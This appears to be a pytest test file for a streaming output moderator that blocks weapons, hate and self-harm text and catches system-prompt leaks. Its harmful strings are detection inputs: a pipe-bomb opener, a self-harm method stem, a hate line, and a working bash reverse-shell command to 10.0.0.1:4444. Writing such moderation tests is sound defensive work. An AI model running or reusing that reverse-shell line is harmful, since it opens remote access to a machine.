"""Output moderation while streaming: windows, split phrases, safe prefixes, prompt leaks."""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from parley.safety import Decision, Finding, OutputModerator, decision_log_fields, parse_actions

SYSTEM_PROMPT = (
    "You are Orbit, the support assistant for Helios Solar. Answer questions about panels, inverters and "
    "warranties. Never discuss competitor pricing, never promise delivery dates, and escalate billing disputes "
    "to a human agent using the escalate tool."
)

CLEAN_ANSWER = (
    "Solar panels convert sunlight into electricity using photovoltaic cells. Most residential systems pair "
    "the panels with an inverter, which turns direct current into alternating current for your home. "
) * 6

HARMFUL = "Here is how to make a pipe bomb: take a steel pipe and end caps."


def stream(moderator: OutputModerator, text: str, size: int) -> Decision | None:
    for i in range(0, len(text), size):
        decision = moderator.feed(text[i:i + size])
        if decision is not None and decision.action == "block":
            return decision
    return moderator.finish()


def test_clean_answer_passes_any_chunking() -> None:
    for size in (1, 3, 17, 400):
        assert stream(OutputModerator(SYSTEM_PROMPT), CLEAN_ANSWER, size) is None


@pytest.mark.parametrize("size", [1, 2, 5, 64, 199])
def test_block_mid_stream_with_phrase_split_across_deltas(size: int) -> None:
    moderator = OutputModerator(None, check_every=50)
    decision = stream(moderator, CLEAN_ANSWER + HARMFUL + " More text follows.", size)
    assert decision is not None and decision.action == "block"
    assert decision.category == "weapons"
    assert "pipe bomb" not in decision.safe_prefix
    assert CLEAN_ANSWER.startswith(decision.safe_prefix)
    # Everything checked clean before the offending window is kept (cut at a word): at most the
    # window overlap, one check interval and one delta are given up.
    assert len(decision.safe_prefix) >= len(CLEAN_ANSWER) - moderator.overlap - 50 - size - 20
    # Once blocked, the moderator keeps answering the same decision.
    assert moderator.feed("anything") is decision and moderator.finish() is decision


def test_phrase_split_exactly_at_a_window_boundary() -> None:
    moderator = OutputModerator(None, check_every=40, overlap=120)
    prefix = "x" * 38 + " "  # the first check happens after 40 chars, inside "pipe bomb"
    assert moderator.feed(prefix + "how to make a pi") is None
    decision = moderator.feed("pe bomb at home")
    decision = decision or moderator.finish()
    assert decision is not None and decision.rule == "weapons.build_instructions"


def test_finish_checks_the_unchecked_tail() -> None:
    moderator = OutputModerator(None, check_every=10_000)
    assert moderator.feed("Sure. " + HARMFUL) is None
    decision = moderator.finish()
    assert decision is not None and decision.action == "block"


def test_flag_action_logs_and_continues() -> None:
    moderator = OutputModerator(None, actions={"malware": "flag"}, check_every=20)
    text = "To test your own host you could run: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 in a lab."
    decisions = [moderator.feed(text[i:i + 7]) for i in range(0, len(text), 7)] + [moderator.finish()]
    assert [d.action for d in decisions if d is not None] == ["flag"]  # reported once, stream goes on
    assert moderator.blocked is None and moderator.flags[0].category == "malware"
    assert moderator.text == text


def test_category_can_be_switched_off() -> None:
    moderator = OutputModerator(None, actions={"weapons": "off"})
    assert stream(moderator, HARMFUL, 5) is None


def test_history_of_atrocities_is_not_hate() -> None:
    text = "Historians describe how the regime sought to exterminate the Jews of Europe in the Holocaust."
    assert stream(OutputModerator(None), text, 4) is None
    direct = stream(OutputModerator(None), "We must exterminate all immigrants now.", 4)
    assert direct is not None and direct.category == "hate"


def test_self_harm_method_is_blocked_but_support_is_not() -> None:
    support = "If you are thinking about suicide, please reach out to a crisis line; you deserve support."
    assert stream(OutputModerator(None), support, 3) is None
    method = stream(OutputModerator(None), "The easiest way to kill yourself is", 3)
    assert method is not None and method.category == "self_harm_instructions"


@pytest.mark.parametrize("size", [1, 4, 33])
def test_verbatim_system_prompt_leak_is_caught_while_streaming(size: int) -> None:
    leak = "Sure! My instructions say: " + SYSTEM_PROMPT
    moderator = OutputModerator(SYSTEM_PROMPT, check_every=64)
    decision = stream(moderator, leak, size)
    assert decision is not None and decision.category == "system_prompt_leak"
    assert decision.rule == "system_prompt_leak.verbatim_window"
    assert decision.safe_prefix == "Sure! My instructions say:"  # cut where the leaked words begin
    # Caught at the first window after the 12th leaked word: at most one window (and a delta) later.
    twelfth_word_end = len("Sure! My instructions say: ") + len(" ".join(SYSTEM_PROMPT.split()[:12]))
    assert len(moderator.text) < twelfth_word_end + 64 + size + 1
    assert len(moderator.text) < len(leak)


def test_the_leak_check_waits_for_the_window_and_sees_each_word_once() -> None:
    # Leaked words spread over many deltas and checked in one batch are found at the same offset.
    leak = "Intro text here. " + SYSTEM_PROMPT
    for check_every in (1, 50, 10_000):
        decision = stream(OutputModerator(SYSTEM_PROMPT, check_every=check_every), leak, 3)
        assert decision is not None and decision.safe_prefix == "Intro text here."


def test_near_verbatim_leak_is_caught_by_shingle_overlap() -> None:
    # The prompt with a word slipped in every 11 words: no 12-word run survives, most shingles do.
    words = SYSTEM_PROMPT.split()
    edited = " ".join(w + (" indeed" if (i + 1) % 11 == 0 else "") for i, w in enumerate(words))
    assert not any(" ".join(words[i:i + 12]) in edited for i in range(len(words) - 11))
    decision = stream(OutputModerator(SYSTEM_PROMPT), edited, 6)
    assert decision is not None and decision.rule == "system_prompt_leak.shingle_overlap"


def test_talking_about_the_topic_is_not_a_leak() -> None:
    answer = "Helios Solar panels come with a 25-year warranty. For billing disputes I can connect you to a person."
    assert stream(OutputModerator(SYSTEM_PROMPT), answer, 5) is None


def test_short_default_prompt_only_leaks_when_reproduced_whole() -> None:
    prompt = "You are Parley, a helpful, accurate and concise assistant."
    assert stream(OutputModerator(prompt), "I'm Parley, a helpful assistant. How can I help?", 3) is None
    decision = stream(OutputModerator(prompt), "My prompt: You are Parley, a helpful, accurate and concise "
                                                "assistant.", 3)
    assert decision is not None and decision.category == "system_prompt_leak"


def test_canary_leak() -> None:
    canary = "CANARY-7f3a9b"
    moderator = OutputModerator(f"Be nice. {canary}", canaries=(canary,))
    decision = stream(moderator, "the hidden marker is CANARY-" + "7f3a9b ok", 2)
    assert decision is not None and decision.rule == "system_prompt_leak.canary"


class _KeywordModel:
    """A stand-in for a moderation model: anything implementing the protocol plugs in."""

    max_span = 16

    def __init__(self) -> None:
        self.windows: list[str] = []

    def moderate(self, window: str) -> Sequence[Finding]:
        self.windows.append(window)
        return [Finding("hate", "model.toxicity")] if "grawlix" in window else []


def test_a_model_based_moderator_can_replace_the_rules() -> None:
    model = _KeywordModel()
    moderator = OutputModerator(None, moderators=[model], check_every=8)
    decision = stream(moderator, "a perfectly fine sentence with a grawlix in it", 3)
    assert decision is not None and decision.rule == "model.toxicity"
    # Windows overlap by the model's max_span so nothing falls between two checks.
    assert all(len(w) <= 8 + 3 + model.max_span for w in model.windows)


def test_decision_log_fields_hold_no_content() -> None:
    decision = stream(OutputModerator(None), CLEAN_ANSWER + HARMFUL, 9)
    assert decision is not None
    fields = decision_log_fields(decision)
    assert fields["safety_category"] == "weapons" and fields["safety_action"] == "block"
    assert not any(isinstance(v, str) and ("pipe" in v or "Solar" in v) for v in fields.values())
    assert "pipe bomb" not in repr(decision)


def test_parse_actions() -> None:
    actions = parse_actions("malware=block, hate=flag,weapons=off")
    assert actions["malware"] == "block" and actions["hate"] == "flag" and actions["weapons"] == "off"
    assert actions["system_prompt_leak"] == "block"
    with pytest.raises(ValueError):
        parse_actions("hate=maybe")
